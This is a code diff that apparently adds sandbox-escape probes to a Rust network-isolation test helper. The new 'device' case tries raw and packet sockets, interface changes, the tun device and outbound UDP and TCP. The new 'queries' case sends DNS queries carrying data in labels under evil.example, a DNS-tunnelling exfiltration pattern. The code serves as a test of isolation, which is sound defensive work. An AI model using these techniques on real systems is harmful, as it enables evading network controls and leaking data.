@@ -9,6 +9,8 @@ fn entry() {
         Ok("calls") => calls(),
         Ok("sockets") => sockets(),
         Ok("connect") => connect(),
+        Ok("device") => device(),
+        Ok("queries") => queries(),
         Ok("processes") => processes(),
         Ok("descriptors") => descriptors(),
         Ok("fork") => fork(),
@@ -101,6 +103,68 @@ fn sockets() {
     }
     let mut pair = [0; 2];
     tell("datagram-pair", unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, pair.as_mut_ptr()) }.into());
+}
+
+/// Sends in every way that a program has, whatever its proxy variables say.
+fn device() {
+    let kinds = [
+        ("ICMP", libc::SOCK_RAW, libc::IPPROTO_ICMP),
+        ("ping", libc::SOCK_DGRAM, libc::IPPROTO_ICMP),
+        ("raw IP", libc::SOCK_RAW, libc::IPPROTO_RAW),
+        ("SCTP", libc::SOCK_STREAM, libc::IPPROTO_SCTP),
+        ("MPTCP", libc::SOCK_STREAM, 262),
+        ("UDP-Lite", libc::SOCK_DGRAM, 136),
+    ];
+    for (name, kind, protocol) in kinds {
+        for family in [libc::AF_INET, libc::AF_INET6] {
+            tell(name, unsafe { libc::socket(family, kind, protocol) }.into());
+        }
+    }
+    tell("packet", unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) }.into());
+    tell("netlink", unsafe { libc::socket(libc::AF_NETLINK, libc::SOCK_RAW, 0) }.into());
+    // The devices and routes are not its own to change.
+    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
+    for (place, byte) in request.ifr_name.iter_mut().zip(b"masque0") {
+        *place = *byte as libc::c_char;
+    }
+    let number = std::os::fd::AsRawFd::as_raw_fd(&socket);
+    tell("down", unsafe { libc::ioctl(number, libc::SIOCSIFFLAGS, &raw mut request) }.into());
+    tell("tun", unsafe { libc::open(c"/dev/net/tun".as_ptr(), libc::O_RDWR) }.into());
+    // What leaves is seen on the device. The host's own listener on the loopback must not be reached.
+    for address in ["192.0.2.1:53", "192.0.2.2:443", "8.8.8.8:53"] {
+        println!("\nUDP {:?}", socket.send_to(b"escape", address));
+    }
+    let host = std::env::var("MASQUE_ADDRESS").unwrap();
+    println!("\nLOOPBACK {:?}", TcpStream::connect(host).map(drop));
+    let remote = std::net::SocketAddr::from(([192, 0, 2, 3], 443));
+    // Nobody answers: what counts is where the packet went.
+    println!("\nTCP {:?}", TcpStream::connect_timeout(&remote, std::time::Duration::from_millis(100)).map(drop));
+    println!("\nDEVICES {}", devices().join(" "));
+}
+
+/// Names of the network devices that this process sees.
+fn devices() -> Vec<String> {
+    let text = std::fs::read_to_string("/proc/net/dev").unwrap();
+    let mut names: Vec<_> = text.lines().filter_map(|line| Some(line.split_once(':')?.0.trim().to_owned())).collect();
+    names.sort();
+    names
+}
+
+/// A tunnel through names: each label carries data.
+fn queries() {
+    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+    let server = std::fs::read_to_string("/etc/resolv.conf").unwrap();
+    let server = server.trim().strip_prefix("nameserver ").unwrap();
+    let mut sent = 0;
+    for number in 0..1000 {
+        let name = format!("label-{number}");
+        let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, name.len() as u8];
+        query.extend(name.as_bytes());
+        query.extend(b"\x04evil\x07example\0\0\x01\0\x01");
+        sent += usize::from(socket.send_to(&query, (server, 53)).is_ok());
+    }
+    println!("\nSENT {sent}");
 }
 
 fn connect() {
